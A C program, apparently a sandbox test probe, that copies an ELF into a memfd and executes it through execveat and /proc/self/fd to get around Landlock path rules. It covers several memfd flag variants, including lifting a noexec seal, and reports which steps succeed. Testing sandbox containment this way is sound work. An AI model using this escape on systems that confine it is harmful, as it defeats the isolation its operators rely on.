/*
 * Attack: run code no path rule covers. Copy an ELF (argv[2]) into a memfd
 * and execute it by both routes, execveat(fd, "", AT_EMPTY_PATH) (glibc's
 * fexecve) and execve("/proc/self/fd/N"); Landlock does not check files on
 * the kernel's internal memfd mount.
 *
 *   memfd_exec plain ELF    memfd_create(MFD_CLOEXEC): the ordinary call
 *   memfd_exec exec ELF     memfd_create(MFD_EXEC | MFD_CLOEXEC)
 *   memfd_exec sealed ELF   memfd_create(MFD_NOEXEC_SEAL | MFD_CLOEXEC),
 *                           then fchmod +x to lift the seal
 *   ... ELF proc            the /proc/self/fd route only
 *
 * Prints "what: OK" or "what: ERRNO" for each step; a successful exec runs
 * ELF with the argument "escaped" (so ELF should print its arguments).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef MFD_NOEXEC_SEAL
#define MFD_NOEXEC_SEAL 0x0008U
#endif
#ifndef MFD_EXEC
#define MFD_EXEC 0x0010U
#endif

static void report(const char *what, long r) {
  printf("%s: %s\n", what, r >= 0 ? "OK" : strerrorname_np(errno));
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc != 3 && !(argc == 4 && strcmp(argv[3], "proc") == 0)) {
    fprintf(stderr, "usage: memfd_exec plain|exec|sealed ELF [proc]\n");
    return 2;
  }
  unsigned flags = MFD_CLOEXEC;
  if (strcmp(argv[1], "exec") == 0) flags |= MFD_EXEC;
  if (strcmp(argv[1], "sealed") == 0) flags |= MFD_NOEXEC_SEAL;
  /* Not CLOEXEC for the /proc route: the fd must survive into execve. */
  int fd = syscall(SYS_memfd_create, "payload", flags & ~MFD_CLOEXEC);
  report("memfd_create", fd);
  if (fd < 0) return 0;
  int src = open(argv[2], O_RDONLY | O_CLOEXEC);
  char buf[65536];
  ssize_t n;
  while ((n = read(src, buf, sizeof(buf))) > 0)
    if (write(fd, buf, n) != n) return 1;
  close(src);
  report("fchmod +x", fchmod(fd, 0755));
  char *args[] = { argv[2], "escaped", NULL };
  char *env[] = { NULL };
  if (argc == 3)
    report("execveat AT_EMPTY_PATH",
           syscall(SYS_execveat, fd, "", args, env, AT_EMPTY_PATH));
  char path[64];
  snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
  report("execve /proc/self/fd", execve(path, args, env));
  return 0;
}
